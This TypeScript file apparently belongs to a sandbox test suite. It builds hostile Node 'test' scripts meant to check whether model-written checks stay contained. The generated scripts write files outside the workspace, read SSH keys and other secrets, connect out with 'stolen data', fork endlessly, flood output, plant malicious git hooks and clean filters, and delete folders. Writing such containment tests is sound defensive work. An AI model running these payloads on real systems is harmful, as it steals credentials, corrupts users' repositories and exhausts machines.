// Hostile "tests" a model might write, as Node scripts the workspace's check command runs
// (`node hostile.test.js`). Each tries one thing a check must never achieve and prints what it saw
// from inside; the suite then looks at the host, which is what counts. They all end failing
// (exit 1), like a test a model wrote badly, so the attempt is scored and decided normally.

const FAIL = 'process.exitCode = 1;';

/** Tries to create each file (and its folders); prints `wrote` or `failed <path>: <code>` per target. */
export function writeEverywhereScript(targets: readonly string[]): string {
  return [
    "const fs = require('node:fs');",
    "const path = require('node:path');",
    "const { execFileSync } = require('node:child_process');",
    `const targets = [...${JSON.stringify(targets)}, path.join(require('node:os').homedir(), 'pwned-sandbox-home.txt')];`,
    'for (const target of targets) {',
    '  try {',
    '    fs.mkdirSync(path.dirname(target), { recursive: true });',
    "    fs.writeFileSync(target, '#!/bin/sh\\necho pwned by a check\\n', { mode: 0o755 });",
    "    console.log('wrote ' + target);",
    '  } catch (error) {',
    "    console.log('failed ' + target + ': ' + error.code);",
    '  }',
    '}',
    '// Point git at hooks of our own: this writes the repository config, shared with the user.',
    "try { execFileSync('git', ['config', 'core.hooksPath', '/tmp/evil-hooks'], { stdio: 'pipe' }); console.log('git config changed'); }",
    "catch (error) { console.log('git config refused: ' + String(error.stderr || error.message).trim()); }",
    FAIL,
  ].join('\n');
}

/** Tries to read each file and prints whatever it gets, which would then reach logs and prompts. */
export function readSecretsScript(paths: readonly string[]): string {
  return [
    "const fs = require('node:fs');",
    "const path = require('node:path');",
    `const paths = [...${JSON.stringify(paths)}, path.join(require('node:os').homedir(), '.ssh', 'id_rsa')];`,
    'for (const file of paths) {',
    '  try {',
    "    console.log('read ' + file + ':\\n' + fs.readFileSync(file, 'utf8'));",
    '  } catch (error) {',
    "    console.log('failed ' + file + ': ' + error.code);",
    '  }',
    '}',
    FAIL,
  ].join('\n');
}

/** Tries TCP to each host:port and an HTTP request to the model server; prints what happened. */
export function connectOutScript(
  targets: readonly { host: string; port: number }[],
  modelServer: { port: number; path: string },
): string {
  return [
    "const net = require('node:net');",
    "const http = require('node:http');",
    `const targets = ${JSON.stringify(targets)};`,
    'let pending = targets.length + 1;',
    'const done = () => { if (--pending === 0) process.exit(1); };',
    'for (const { host, port } of targets) {',
    '  const socket = net.connect({ host, port, timeout: 3000 });',
    "  socket.on('connect', () => { console.log('connected ' + host + ':' + port); socket.end('stolen data'); done(); });",
    "  socket.on('error', (error) => { console.log('failed ' + host + ':' + port + ': ' + error.code); done(); });",
    "  socket.on('timeout', () => { console.log('timeout ' + host + ':' + port); socket.destroy(); done(); });",
    '}',
    `http.get({ host: '127.0.0.1', port: ${modelServer.port}, path: ${JSON.stringify(modelServer.path)}, timeout: 3000 }, (res) => { console.log('model server answered ' + res.statusCode); done(); })`,
    "  .on('error', (error) => { console.log('model server unreachable: ' + error.code); done(); })",
    "  .on('timeout', function () { this.destroy(new Error('timeout')); });",
  ].join('\n');
}

/**
 * Starts sleeping children for as long as the kernel lets it — endless from the check's point of
 * view. It gives up only after 200 refusals in a row (a cap is biting) or at `ceiling`, which sits far
 * above any cap so that a machine where the cap is missing fails the test instead of suffering.
 */
export function forkForeverScript(ceiling: number, sleepArg: string): string {
  return [
    "const cp = require('node:child_process');",
    'let started = 0, failed = 0, refusedInARow = 0;',
    `while (refusedInARow < 200 && started < ${ceiling}) {`,
    '  let child;',
    `  try { child = cp.spawn('sleep', [${JSON.stringify(sleepArg)}], { stdio: 'ignore' }); child.on('error', () => {}); } catch { child = undefined; }`,
    '  if (child && child.pid) { started++; refusedInARow = 0; } else { failed++; refusedInARow++; }',
    '}',
    "console.log('started ' + started + ' children, ' + failed + ' refused');",
    'process.exit(1);',
  ].join('\n');
}

/** Prints `megabytes` MB between a first and a last line, honouring back-pressure. */
export function floodOutputScript(megabytes: number): string {
  return [
    "const chunk = 'x'.repeat(1024 * 1024 - 1) + '\\n';",
    "process.stdout.write('FIRST LINE OF THE FLOOD\\n');",
    'let written = 0;',
    'const next = () => {',
    `  while (written < ${megabytes}) {`,
    '    written++;',
    "    if (!process.stdout.write(chunk)) { process.stdout.once('drain', next); return; }",
    '  }',
    "  process.stdout.write('LAST LINE OF THE FLOOD\\n');",
    `  ${FAIL}`,
    '};',
    'next();',
  ].join('\n');
}

/** Prints `did <what>` or `failed <what>: <code>` for one attempt at something. */
const attempt = (what: string, body: string): string =>
  `try { ${body}; console.log(${JSON.stringify(`did ${what}`)}); } catch (error) { console.log(${JSON.stringify(`failed ${what}: `)} + (error.code || error.status || error.message)); }`;

/** Rewrites the worktree's `.git` file to point at another git dir (the user's repository, say). */
export function rewriteDotGitScript(gitDir: string): string {
  return [
    "const fs = require('node:fs');",
    attempt('.git', `fs.writeFileSync('.git', ${JSON.stringify(`gitdir: ${gitDir}\n`)})`),
    FAIL,
  ].join('\n');
}

/**
 * Plants a git dir in the worktree whose config defines a clean filter that appends to `marker`, stages
 * math.js there, selects the filter for every file through .gitattributes, makes math.js look changed
 * (so that a `git status` must run it through the filter), and points `.git` at the planted dir. The
 * check itself never runs git after the filter exists: only someone else's git could write the marker.
 */
export function plantedFilterScript(marker: string): string {
  const filter = `sh -c 'echo filter ran >> ${marker}; cat'`;
  return [
    "const fs = require('node:fs');",
    "const path = require('node:path');",
    "const { execFileSync } = require('node:child_process');",
    "const planted = path.resolve('planted-git');",
    "const git = (...args) => execFileSync('git', ['--git-dir', planted, ...args], { stdio: 'pipe' });",
    attempt(
      'plant a git dir',
      "git('init', '-q', '--bare'); git('config', 'core.bare', 'false'); git('--work-tree', '.', 'add', 'math.js')",
    ),
    attempt('configure the filter', `git('config', 'filter.evil.clean', ${JSON.stringify(filter)})`),
    attempt('.gitattributes', "fs.writeFileSync('.gitattributes', '* filter=evil\\n')"),
    attempt('touch math.js', "const later = new Date(Date.now() + 60000); fs.utimesSync('math.js', later, later)"),
    attempt('.git', "fs.writeFileSync('.git', 'gitdir: ' + planted + '\\n')"),
    FAIL,
  ].join('\n');
}

/**
 * Writes a `config.worktree` with a marker-writing clean filter into the worktree's admin folder (named
 * by the `.git` file) and a .gitattributes selecting it, and makes math.js look changed. Git reads
 * that file when the repository has extensions.worktreeConfig on.
 */
export function adminConfigScript(marker: string): string {
  // Quoted: an unquoted `;` would start a comment in git's config syntax.
  const config = `[filter "evil"]\n\tclean = "sh -c 'echo filter ran >> ${marker}; cat'"\n`;
  return [
    "const fs = require('node:fs');",
    "const path = require('node:path');",
    "const gitDir = fs.readFileSync('.git', 'utf8').replace(/^gitdir: /, '').trim();",
    attempt('config.worktree', `fs.writeFileSync(path.join(gitDir, 'config.worktree'), ${JSON.stringify(config)})`),
    attempt('.gitattributes', "fs.writeFileSync('.gitattributes', '* filter=evil\\n')"),
    attempt('touch math.js', "const later = new Date(Date.now() + 60000); fs.utimesSync('math.js', later, later)"),
    FAIL,
  ].join('\n');
}

/**
 * Stages a file of its own in the worktree's index with the worktree's own git: what the next commit
 * would carry along if the engine committed the index as it stands (`commit --include`).
 */
export function stageFileScript(): string {
  return [
    "const fs = require('node:fs');",
    "const { execFileSync } = require('node:child_process');",
    "fs.writeFileSync('payload.txt', 'carried into the next commit\\n');",
    attempt('stage payload.txt', "execFileSync('git', ['add', 'payload.txt'], { stdio: 'pipe' })"),
    FAIL,
  ].join('\n');
}

/** Deletes a folder (the user deleting their repository in the middle of the night). */
export function deleteFolderScript(folder: string): string {
  return [
    "const fs = require('node:fs');",
    attempt(`delete ${folder}`, `fs.rmSync(${JSON.stringify(folder)}, { recursive: true, force: true })`),
    FAIL,
  ].join('\n');
}
